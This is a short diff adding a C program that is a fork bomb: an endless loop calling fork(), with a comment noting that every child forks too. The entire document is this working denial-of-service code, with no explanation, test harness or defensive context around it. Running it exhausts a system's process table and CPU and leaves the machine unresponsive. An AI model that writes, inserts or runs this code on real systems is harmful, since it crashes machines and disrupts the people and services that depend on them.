@@ -1,0 +1,5 @@
+// Forks without end; every child forks too.
+#include <unistd.h>
+int main() {
+  for (;;) fork();
+}
